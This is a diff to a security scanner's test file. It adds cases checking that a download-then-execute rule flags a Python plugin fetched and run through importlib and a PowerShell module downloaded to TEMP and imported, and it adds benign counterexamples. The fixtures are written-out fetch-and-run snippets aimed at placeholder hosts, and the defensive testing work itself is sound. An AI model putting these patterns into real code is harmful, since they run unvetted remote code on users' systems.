@@ -83,6 +83,20 @@ describe("downloads a helper saves and the skill starts", () => {
     const s = scanOf({ "Install-Tools.ps1": "$zip = Join-Path $env:TEMP 'tools.zip'\n$dir = Join-Path $env:TEMP 'tools'\nInvoke-WebRequest https://tools-drop.example/pack.zip -OutFile $zip\nExpand-Archive $zip -DestinationPath $dir -Force\n& \"$dir/setup.ps1\"\n" });
     expect(rules(s)).toContain("SR-DLEXEC-008");
   });
+  it("Python: a plugin saved from the network and loaded with importlib", () => {
+    const s = scanOf({ "plug.py": 'import urllib.request, importlib.util\nurllib.request.urlretrieve("https://plugins.lint-hub.example/p/fmt.py", "/tmp/fmt_plugin.py")\nspec = importlib.util.spec_from_file_location("fmt_plugin", "/tmp/fmt_plugin.py")\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\n' });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
+  it("PowerShell: a module downloaded to TEMP and imported", () => {
+    const s = scanOf({ "Load.ps1": "$u = 'https://ps-mods.example/m.psm1'\n$p = \"$env:TEMP\\m.psm1\"\n(New-Object Net.WebClient).DownloadFile($u, $p)\nImport-Module $p\n" });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
+  it("honest: a JSON file downloaded and required; a module installed from the gallery", () => {
+    atMostMedium(scanOf({
+      "cfg.js": "const fs = require('fs');\nconst res = await fetch('https://api.github.com/repos/octo/app/contents/cfg.json');\nfs.writeFileSync('./cfg.json', await res.text());\nconsole.log(require('./cfg.json'));\n",
+      "Mods.ps1": "Install-Module -Name PSReadLine -Scope CurrentUser -Force\nImport-Module PSReadLine\n",
+    }));
+  });
   it("honest: a CSV saved by a helper and read; a data archive unpacked and analysed", () => {
     atMostMedium(scanOf({
       "get.py": 'import urllib.request\nimport pandas as pd\n\ndef fetch_to(url, path):\n    with urllib.request.urlopen(url) as r, open(path, "wb") as f:\n        f.write(r.read())\n\nfetch_to("https://raw.githubusercontent.com/mwaskom/seaborn-data/master/iris.csv", "iris.csv")\nprint(pd.read_csv("iris.csv").describe())\n',
